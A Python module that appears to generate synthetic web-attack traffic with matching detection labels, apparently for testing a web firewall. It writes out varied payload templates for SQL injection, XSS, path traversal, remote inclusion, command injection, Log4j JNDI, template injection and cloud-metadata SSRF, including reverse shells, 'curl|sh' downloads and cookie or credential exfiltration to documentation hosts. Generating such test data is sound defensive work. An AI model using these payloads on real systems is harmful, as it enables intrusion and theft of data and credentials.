"""What attackers write into requests: grammars, so that hardly two payloads are the same, and the encodings they come in.

The forms are those that public rule sets and tools speak of (OWASP Web Security Testing Guide, PayloadsAllTheThings, the documentation of
AWS's managed rule groups); words, numbers, names and depth are drawn. Every host is a documentation name or address.
"""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

from data.generator.dice import Dice

_LOW = "abcdefghijklmnopqrstuvwxyz"
_TABLES = "users customers accounts orders admin members sessions payments staff tokens".split()
_COLUMNS = "id email password username login hash name token secret phone iban".split()


def sql(dice: Dice, form: str = "") -> str:
    """`form`: common, union, blind, error, time, stacked; drawn where empty."""
    form = form or dice.pick(("common", "union", "union", "blind", "error", "time", "stacked"))
    value = dice.pick(("", "1", str(dice.between(2, 99_999)), dice.token(4, _LOW), "-1"))
    close = dice.pick(("'", '"', "')", "'))", "", " ", "'%"))
    end = dice.pick(("-- -", "--", "#", "-- " + dice.token(4, _LOW), ";--", "/*"))
    gap = dice.pick((" ", " ", " ", "/**/", "\t", "\n", "  "))
    n = dice.between(2, 9_999)
    if form == "common":
        word, quoted = dice.token(3, _LOW), dice.pick(("'", '"'))
        true = dice.pick(
            (
                f"{n}={n}",
                f"{quoted}{word}{quoted}={quoted}{word}",
                f"{n} LIKE {n}",
                "true",
                f"NOT {n}={n + 1}",
                f"{quoted}{quoted}={quoted}",
            )
        )
        return _cased(dice, f"{value}{close}{gap}{dice.pick(('OR', 'or', '||', 'OR', 'AND'))}{gap}{true}{dice.pick((end, '', ''))}")
    if form == "union":
        columns = [
            dice.pick(("NULL", str(dice.below(9)), "@@version", "user()", "version()", "database()", dice.pick(_COLUMNS)))
            for _ in range(dice.between(1, 9))
        ]
        if dice.chance(0.4):
            mark = "0x" + dice.hexes(6)
            columns[dice.below(len(columns))] = f"CONCAT({mark},{dice.pick(_COLUMNS)},{mark},{dice.pick(_COLUMNS)})"
        source = dice.pick(
            (
                f" FROM {dice.pick(_TABLES)}",
                " FROM information_schema.tables",
                " FROM information_schema.columns",
                "",
                f" FROM {dice.pick(_TABLES)} LIMIT {dice.below(90)},1",
            )
        )
        return _cased(
            dice, f"{value}{close} UNION{dice.pick((' ALL', '', ' DISTINCT'))} SELECT {','.join(columns)}{source}{end}".replace(" ", gap)
        )
    if form == "blind":
        probe = dice.pick((
            f"ASCII(SUBSTR((SELECT {dice.pick(_COLUMNS)} FROM {dice.pick(_TABLES)} LIMIT 1),{dice.between(1, 24)},1))>{dice.below(126)}",
            f"(SELECT COUNT(*) FROM {dice.pick(_TABLES)})>{dice.below(500)}", f"LENGTH(DATABASE())={dice.between(3, 20)}",
            f"EXISTS(SELECT 1 FROM {dice.pick(_TABLES)} WHERE {dice.pick(_COLUMNS)} LIKE '{dice.token(1, _LOW)}%')",
        ))  # fmt: skip
        return _cased(dice, f"{value}{close} AND {probe}{end}".replace(" ", gap))
    if form == "error":
        inner = f"SELECT {dice.pick(_COLUMNS)} FROM {dice.pick(_TABLES)} LIMIT 1"
        probe = dice.pick((
            f"EXTRACTVALUE({n},CONCAT(0x7e,({inner})))", f"UPDATEXML({n},CONCAT(0x3a,({inner})),1)", f"{n}=CAST(({inner}) AS INT)",
            f"{n}=CONVERT(INT,({inner}))",
            f"(SELECT {n} FROM(SELECT COUNT(*),CONCAT(({inner}),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
        ))  # fmt: skip
        return _cased(dice, f"{value}{close} AND {probe}{end}".replace(" ", gap))
    if form == "time":
        wait = dice.between(3, 12)
        probe = dice.pick((
            f"SLEEP({wait})", f"(SELECT {n} FROM (SELECT(SLEEP({wait})))a)", f"{n}=(SELECT {n} FROM PG_SLEEP({wait}))",
            f"BENCHMARK({dice.between(2, 9)}000000,MD5('{dice.token(3, _LOW)}'))", f"IF({n}={n},SLEEP({wait}),0)",
            f"DBMS_PIPE.RECEIVE_MESSAGE('{dice.token(3, _LOW)}',{wait})={n}",
        ))  # fmt: skip
        return dice.pick((f"{value}{close} AND {probe}{end}", f"{value}{close};WAITFOR DELAY '0:0:{wait}'--")).replace(" ", gap)
    return dice.pick((
        f"{value}{close};DROP TABLE {dice.pick(_TABLES)}{end}",
        f"{value}{close};EXEC xp_cmdshell('{dice.pick(('whoami', 'dir', 'ping ' + host(dice)))}'){end}",
        f"{value}{close};INSERT INTO {dice.pick(_TABLES)} ({dice.pick(_COLUMNS)}) VALUES ('{dice.token(5, _LOW)}'){end}",
        f"{value}{close};UPDATE {dice.pick(_TABLES)} SET {dice.pick(_COLUMNS)}='{dice.token(6, _LOW)}'{end}",
    ))  # fmt: skip


def script(dice: Dice) -> str:
    call = dice.pick(("alert", "confirm", "prompt", "print", "console.log"))
    what = dice.pick((str(dice.below(999)), "document.domain", "document.cookie", "origin", f"'{dice.token(4, _LOW)}'", "1337"))
    act = dice.pick(
        (
            f"{call}({what})",
            f"{call}`{dice.below(99)}`",
            f"fetch('//{host(dice)}/?c='+document.cookie)",
            f"eval(atob('{dice.token(12, _LOW)}=='))",
            f"top['{call}']({what})",
        )
    )
    event = dice.pick("onerror onload onfocus onmouseover ontoggle onanimationstart onpointerenter onclick".split())
    tag = dice.pick((
        f"<script>{act}</script>", f"<script src=//{host(dice)}/{dice.token(3, _LOW)}.js></script>",
        f"<img src={dice.pick(('x', '/', '#'))} {event}={act}>",
        f"<svg/{event}={act}>", f"<body {event}={act}>", f"<details open ontoggle={act}>", f"<iframe src=javascript:{act}>",
        f"<input autofocus {event}={act}>",
        f"<video><source {event}={act}>", f"<a href=javascript:{act}>{dice.token(3, _LOW)}</a>",
        f"<math><mi//xlink:href=\"data:x,<script>{act}</script>\">",
    ))  # fmt: skip
    return dice.pick(("", '">', "'>", "</title>", dice.token(3, _LOW), '"/>', "-->")) + _cased(dice, tag, 0.2)


def traversal(dice: Dice, wrapped: bool = True) -> str:
    up = dice.pick(
        (
            "../",
            "../",
            "..\\",
            "....//",
            "..;/",
            "%2e%2e/",
            "..%2f",
            "%2e%2e%2f",
            "..%252f",
            "%252e%252e%252f",
            "..%c0%af",
            "..%5c",
            "%%32%65%%32%65/",
        )
    )
    target = dice.pick((
        "etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ", "var/log/nginx/access.log",
        "etc/nginx/nginx.conf",
        "root/.ssh/id_rsa", "home/app/.env", "windows/system32/drivers/etc/hosts", "proc/self/cmdline", "app/config/database.yml",
    ))  # fmt: skip
    if wrapped and dice.chance(0.12):
        return f"php://filter/convert.base64-encode/resource={dice.pick(('index', 'config', 'wp-config', 'login'))}.php"
    begin = dice.pick(("", "", "/", "images/", "file://"))
    slash = "%2f" if up.lower().endswith("2f") and dice.chance(0.7) else "/"
    return begin + up * dice.between(3, 9) + target.replace("/", slash) + dice.pick(("", "", "", "%00", "%00.jpg", "?"))


def remote(dice: Dice) -> str:
    name = dice.token(dice.between(1, 6), _LOW)
    return dice.pick((
        f"http://{host(dice)}/{name}.txt?", f"https://{host(dice)}/{name}.php", f"ftp://{host(dice)}/{name}.txt",
        f"//{host(dice)}/{name}", f"http://{host(dice)}:{dice.between(1024, 9999)}/{name}",
        f"hTTp://{host(dice)}/{name}.jpg%00", f"data://text/plain;base64,{dice.token(16, _LOW)}==",
        "expect://" + dice.pick(("id", "whoami", "ls")),
    ))  # fmt: skip


def command(dice: Dice) -> str:
    gap = dice.pick((" ", " ", "${IFS}", "\t", "$IFS$9"))
    run = dice.pick((
        "id", "whoami", "uname -a", "cat /etc/passwd", "cat /etc/hosts", "ls -la /", f"wget http://{host(dice)}/{dice.token(3, _LOW)}.sh",
        f"sleep {dice.between(4, 20)}",
        f"curl http://{host(dice)}/{dice.token(2, _LOW)}|sh", f"ping -c {dice.between(2, 9)} {host(dice)}",
        f"nslookup {dice.token(5, _LOW)}.{host(dice)}",
        "cat /proc/self/environ", f"nc -e /bin/sh {host(dice)} {dice.between(1024, 9999)}", "bash -c id", "/bin/cat /etc/passwd",
        "php -r 'phpinfo();'",
    )).replace(" ", gap)  # fmt: skip
    join = dice.pick((";{}", "|{}", "||{}", "&&{}", "`{}`", "$({})", "\n{}", ";{};", "|{} #", "'; {} #", '"|{}|"', "&{}&"))
    return dice.pick(("", dice.token(4, _LOW), str(dice.below(999)), "127.0.0.1")) + join.format(run)


def jndi(dice: Dice) -> str:
    if dice.chance(0.12):
        field = dice.pick(("pattern", "suffix", "directory", "prefix"))
        return f"class.module.classLoader.resources.context.parent.pipeline.first.{field}={dice.token(6, _LOW)}"

    def hidden(letter: str) -> str:
        return dice.pick(
            (
                letter,
                letter,
                f"${{lower:{letter}}}",
                f"${{upper:{letter}}}",
                f"${{::-{letter}}}",
                f"${{env:{dice.token(3, 'ABCDEFGH')}:-{letter}}}",
            )
        )

    word = "jndi" if dice.chance(0.45) else "".join(hidden(letter) for letter in "jndi")
    scheme = dice.pick(("ldap", "ldap", "ldaps", "rmi", "dns", "iiop"))
    port = f":{dice.pick((389, 1389, 1099, 53, dice.between(1024, 60_000)))}" if dice.chance(0.6) else ""
    inner = dice.pick(("", "", "${hostName}.", "${sys:user.name}.", "${env:AWS_ACCESS_KEY_ID}."))
    return f"${{{word}:{scheme}://{inner}{host(dice)}{port}/{dice.token(dice.between(1, 8), _LOW)}}}"


def template(dice: Dice) -> str:
    a, b = dice.between(2, 9_999), dice.between(2, 9_999)
    return dice.pick((
        f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"<%= {a}*{b} %>", f"#{{{a}*{b}}}", f"*{{{a}*{b}}}", f"${{{{{a}*{b}}}}}",
        f"{{{a}*{b}}}@{{{b}}}",
        "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{constructor.constructor('return this')()}}",
        "{{request.application.__globals__.__builtins__}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<#assign x='freemarker.template.utility.Execute'?new()>${x('id')}",
        f"{{% for i in range({a}) %}}{{{{i}}}}{{% endfor %}}", "{php}echo `id`;{/php}",
        f"{{{{'{dice.token(3, _LOW)}'|upper}}}}{{{{{a}+{b}}}}}",
    ))  # fmt: skip


def metadata(dice: Dice) -> str:
    if dice.chance(0.12):
        path = dice.pick(("instance/", "project/project-id", "instance/service-accounts/default/token"))
        return f"http://metadata.google.internal/computeMetadata/v1/{path}"
    name = dice.pick((
        "169.254.169.254", "169.254.169.254", "169.254.169.254:80", "2852039166", "0xA9FEA9FE", "0xa9.0xfe.0xa9.0xfe",
        "0251.0376.0251.0376", "169.254.43518",
        "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "169.254.169.254.nip.io", "169.254.170.2", f"{dice.token(4, _LOW)}@169.254.169.254",
        "[::ffff:169.254.169.254]",
    ))  # fmt: skip
    path = dice.pick((
        "latest/meta-data/", "latest/meta-data/iam/security-credentials/", "latest/user-data",
        "latest/meta-data/iam/security-credentials/shop-node",
        "latest/dynamic/instance-identity/document", "latest/api/token", "v2/credentials/", "latest/meta-data/hostname",
    ))  # fmt: skip
    return f"{dice.pick(('http://', 'http://', 'hTTp://', '//', 'gopher://'))}{name}/{path}"


def host(dice: Dice) -> str:
    """Where an attacker's own things lie."""
    if dice.chance(0.5):
        return f"{dice.token(dice.between(3, 9), _LOW)}.{dice.pick(('example', 'test', 'invalid'))}"
    return f"{dice.pick(('192.0.2', '198.51.100', '203.0.113'))}.{dice.between(1, 254)}"


def _cased(dice: Dice, text: str, likely: float = 0.3) -> str:
    if not dice.chance(likely):
        return text
    return "".join(letter.upper() if dice.chance(0.5) else letter.lower() for letter in text) if dice.chance(0.5) else text.lower()


# --- how it is sent ------------------------------------------------------------------------------------------------------------

FORMS: dict[str, Callable[[Dice], str]] = {
    "sqli": sql, "xss": script, "lfi": traversal, "rfi": remote, "shell": command, "log4j": jndi, "template": template, "ssrf": metadata,
}  # fmt: skip
PARAMETERS = {
    "sqli": "q id cat sort order page item search ref user filter", "xss": "q search name ref msg title utm_term lang",
    "lfi": "file page path doc template view include dir img",
    "rfi": "page url file include src template lang", "shell": "host ip cmd q file name exec ping target",
    "log4j": "q user x name id lang search",
    "template": "name q msg template title greeting", "ssrf": "url src image dest callback feed proxy link next",
}  # fmt: skip
DETECTED_BY = {
    "sqli": "security/sql_injection", "xss": "security/cross_site_scripting", "lfi": "security/path_traversal",
    "rfi": "security/remote_file_inclusion",
    "shell": "security/command_injection", "log4j": "security/jndi_injection", "template": "security/template_injection",
    "ssrf": "security/metadata_ssrf",
}  # fmt: skip


def sent(dice: Dice, text: str) -> str:
    """The text as a client puts it into a query: encoded little or much, once or twice, spaces one way or the other."""
    style = dice.below(10)
    if style < 5:
        return quote(text, safe="")
    if style < 7:
        return quote(text, safe="/:=,()*'!;$@").replace("%20", "+")
    if style < 8:
        return quote(quote(text, safe=""), safe="")
    if style < 9:
        return "".join(f"%{ord(c):02{dice.pick('xX')}}" if not c.isalnum() and ord(c) < 128 else quote(c) for c in text)
    return (
        text.replace("%", "%25")
        .replace(" ", "%20")
        .replace("&", "%26")
        .replace("#", "%23")
        .replace("+", "%2B")
        .replace("\t", "%09")
        .replace("\n", "%0a")
    )


def query(dice: Dice, kind: str) -> str:
    """A query string with one payload in one of its parameters."""
    pairs = [f"{dice.pick(PARAMETERS[kind].split())}={sent(dice, FORMS[kind](dice))}"]
    if dice.chance(0.3):
        pairs.insert(dice.below(2), f"{dice.token(dice.between(1, 5), _LOW)}={dice.below(9_999)}")
    return "&".join(pairs)


def recognised(dice: Dice, kind: str, likely: float = 0.88) -> str:
    """What a web ACL sees in it: a threat of edge/shield.py, or nothing, for encodings and odd forms get past it."""
    if kind == "template" or not dice.chance(likely):
        return ""
    return kind
